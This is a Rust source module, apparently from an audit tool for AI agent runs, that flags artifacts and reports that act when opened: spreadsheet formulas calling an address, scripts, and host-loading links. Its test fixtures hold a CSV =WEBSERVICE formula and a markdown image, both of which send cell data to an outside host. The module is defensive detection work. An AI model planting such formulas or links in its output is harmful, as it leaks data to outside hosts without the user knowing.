//! Finds artifacts and reports that do something when a person opens them: formulas that ask an address or start a
//! program, scripts, and elements that load from a host. Only the structure counts.

use guild_audit::evidence::{formulas, pages};

use super::crossings::Looked;
use crate::{neighbour::OWN_HOST, record::Place, report::Active};

/// Findings that are listed.
const LISTED: usize = 60;

/// What the artifacts and reports of the runs do when they are opened, each once.
pub(crate) fn of(runs: &[Looked<'_>]) -> Vec<Active> {
    let mut found: Vec<Active> = Vec::new();
    let opened = |place: Place| matches!(place, Place::Artifact | Place::Result | Place::Report);
    for run in runs {
        for event in run.events.iter().filter(|event| !event.by_model && opened(event.place)) {
            for (what, text) in in_text(event.text.as_bytes()) {
                // What the model asks a tool to draw has the probe's own address.
                let is_known = |one: &Active| one.name == event.name && one.what == what && one.text == text;
                if !text.contains(OWN_HOST) && !found.iter().any(is_known) && found.len() < LISTED {
                    let (name, run) = (event.name.clone(), run.name.to_owned());
                    found.push(Active { name, what: what.to_owned(), text, run });
                }
            }
        }
    }
    found
}

fn in_text(bytes: &[u8]) -> impl Iterator<Item = (&'static str, String)> {
    let formulas =
        formulas::active(bytes).into_iter().map(|text| ("a formula asks an address or starts a program", text));
    let scripts = pages::scripts(bytes).into_iter().map(|text| ("a script runs in it", text));
    let loads = pages::active(bytes).chain(pages::pictures(bytes)).map(|found| ("it loads from a host", found.what));
    formulas.chain(scripts).chain(loads)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::Event;

    #[test]
    fn an_artifact_that_does_something_is_found_once_and_plain_tables_are_not() {
        let event = |place, text: &str| Event {
            step: 1,
            place,
            name: "artifacts/depths.csv".to_owned(),
            text: text.to_owned(),
            by_model: false,
        };
        let events = [
            event(Place::Artifact, "name,depth\nquay,=WEBSERVICE(\"https://a.acme.net/\"&A1)\n"),
            event(Place::Artifact, "name,depth\nquay,=WEBSERVICE(\"https://a.acme.net/\"&A1)\n"),
            event(Place::Artifact, "name,depth\nquay,=SUM(A1:A3)\n"),
            event(Place::Result, "See [the source](https://a.acme.net/), and ![it](https://a.acme.net/i.png)."),
            event(Place::ToolAnswer, "<script>f()</script>"),
        ];
        let found = of(&[Looked { name: "r", events: &events }]);
        let found: Vec<&str> = found.iter().map(|one| one.what.as_str()).collect();
        assert_eq!(found, ["a formula asks an address or starts a program", "it loads from a host"]);
    }
}
